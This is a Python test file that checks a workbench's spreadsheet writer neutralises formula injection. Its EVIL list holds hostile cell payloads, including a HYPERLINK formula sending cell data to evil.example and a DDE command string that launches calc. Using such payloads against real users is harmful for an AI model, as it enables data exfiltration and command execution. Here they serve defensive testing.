"""Formula injection (issue 14, item 3): every workbook the workbench writes goes through one writer, and no cell
of it is a formula that came from data — whatever the text starts with (``= + - @``, full-width, tab, CR)."""

from __future__ import annotations

import csv
from types import SimpleNamespace

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from cpas_kit.core.import_report import ImportRejected
from cpas_kit.core.text import FORMULA_START, plain_text
from cpas_kit.core.xlsx import save_workbook
from cpas_kit.data_in.entry_workbook import write_template
from cpas_kit.data_in.observations import import_observations
from cpas_kit.demo import MISSION, demo_framework
from cpas_kit.framework.model import parse_framework
from cpas_kit.framework.workbook import export_framework, read_workbook
from cpas_kit.study.document import write_xlsx
from cpas_kit.tracker.export import export_xlsx
from cpas_kit.tracker.store import TrackerStore

STORE_CONTENT = "empty"
STORE_BACKENDS = ("sqlite",)
CYCLE = "2023/24-Q4"
EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "\uff1d1+1", "+cmd|' /C calc'!A0", "-2+3",
        "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff20x", "\uff0b1", "\uff0d1"]


def formulas_from_data(path) -> list[str]:
    """Every cell that a spreadsheet would run: formula cells and text starting like a formula."""
    found = []
    book = load_workbook(path)  # not read-only: formula cells keep their type
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_START)):
                    found.append(f"{ws.title}!{c.coordinate}: {c.value!r}")
    return found


@pytest.fixture
def hostile_store(store):
    doc = demo_framework().to_document()
    doc["mission"]["name"] = EVIL[0]
    doc["mission"]["name_fr"] = EVIL[1]
    doc["sections"][0]["name"] = EVIL[4]
    first = doc["priorities"][0]["outcomes"][0]["indicators"][0]
    first["name"], first["definition"] = EVIL[2], EVIL[3]
    store.save_framework(parse_framework(doc, "hostile"), effective_from="2021/22-Q1", actor="t")
    TrackerStore(store).write_recommendations(MISSION, [
        {"text": EVIL[0], "cycle_recommended": CYCLE, "actions": EVIL[1], "lead_section": EVIL[4],
         "comments": EVIL[3]}], actor=EVIL[2], source="test")
    return store


def test_the_data_entry_workbook_holds_no_formula_from_data(hostile_store, tmp_path):
    path = write_template(hostile_store, MISSION, CYCLE, tmp_path / "entry.xlsx")
    assert formulas_from_data(path) == []
    values = [c.value for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row
              if isinstance(c.value, str)]
    assert any(EVIL[0] in v for v in values), "the text is kept, only neutralised"


def test_the_framework_workbook_holds_no_formula_and_reads_back_the_same_text(hostile_store, tmp_path):
    path = export_framework(hostile_store, MISSION, tmp_path / "framework.xlsx")
    assert formulas_from_data(path) == []
    doc, reader = read_workbook(path)
    assert doc["mission"]["name"] == EVIL[0] and doc["sections"][0]["name"] == EVIL[4]


def test_the_tracker_export_holds_no_formula_from_data(hostile_store, tmp_path):
    path = export_xlsx(hostile_store, MISSION, tmp_path / "tracker.xlsx", cycle=CYCLE)
    assert formulas_from_data(path) == []


def test_the_error_workbook_holds_no_formula_even_from_the_users_own_file(hostile_store, tmp_path):
    src = tmp_path / "bad.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.append(["mission_code", "indicator_code", "period", "disaggregation", "value", "value_text", "source", "note"])
    ws.append([MISSION, "NOPE", CYCLE, "", "=1+1", "", EVIL[2], EVIL[0]])
    ws["E2"] = "=SUM(1,2)"  # a live formula in the uploaded file
    wb.save(src)
    with pytest.raises(ImportRejected):
        import_observations(hostile_store, src, actor="t")
    assert formulas_from_data(tmp_path / "bad.errors.xlsx") == []
    csv_src = tmp_path / "bad.csv"
    with open(csv_src, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["mission_code", "indicator_code", "period", "value", "note"],
                                  [MISSION, "NOPE", CYCLE, "1", EVIL[5]]])
    with pytest.raises(ImportRejected):
        import_observations(hostile_store, csv_src, actor="t")
    assert formulas_from_data(tmp_path / "bad.errors.xlsx") == []


def test_the_study_workbook_holds_no_formula_from_data(tmp_path):
    frame = pd.DataFrame({"mission_code": [EVIL[6], "B"], "mission_name": [EVIL[0], EVIL[1]],
                          "version_id": [1, 2], "value": [1.5, None]})
    ctx = SimpleNamespace(language="en", area_label=EVIL[2], params=SimpleNamespace(area="wps", normalisation="none"),
                          scope=SimpleNamespace(first="2021/22", last="2023/24"), generated_at=pd.Timestamp.now(),
                          store_label=EVIL[3], is_synthetic=False, missions=frame, coverage=frame, lacking=[EVIL[4]],
                          trends=frame, ratings=frame, recommendations=frame, fatalities_by_year=frame,
                          fatalities_by_incident=frame.assign(type_of_incident=EVIL[7]), events=frame,
                          events_by_period=frame, worldbank=frame, quality=frame)
    path = write_xlsx(ctx, tmp_path / "study.xlsx")
    assert formulas_from_data(path) == []
    names = [c.value for c in load_workbook(path)["Missions"]["B"]][1:]
    assert [plain_text(n) for n in names] == [EVIL[0], EVIL[1]]


@pytest.mark.parametrize("text", EVIL)
def test_the_one_writer_neutralises_every_formula_start(text, tmp_path):
    wb = Workbook()
    wb.active["A1"] = text
    wb.active["A2"] = "=1+1"  # even a formula cell
    path = save_workbook(wb, tmp_path / "x.xlsx")
    assert formulas_from_data(path) == []
    assert plain_text(load_workbook(path).active["A1"].value) == text


def test_a_nul_byte_stored_by_an_older_version_does_not_stop_the_data_entry_workbook(hostile_store, tmp_path):
    from cpas_kit.data_in.store import ObservationStore

    ind = next(i for _, _, i in demo_framework().indicators() if i.kind == "quantitative")
    rows = pd.DataFrame([{"mission_code": MISSION, "indicator_code": ind.code, "period": "2023/24-Q3",
                          "disaggregation": "", "value": 1.0, "value_text": None, "source": "old\x00source",
                          "note": "old\x00note\x1b[2J"}])
    ObservationStore(hostile_store).write_observations(rows, actor="older version", note="test")
    path = write_template(hostile_store, MISSION, CYCLE, tmp_path / "entry.xlsx")
    assert formulas_from_data(path) == []
    texts = [c.value for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)]
    assert not any("\x00" in v or "\x1b" in v for v in texts)
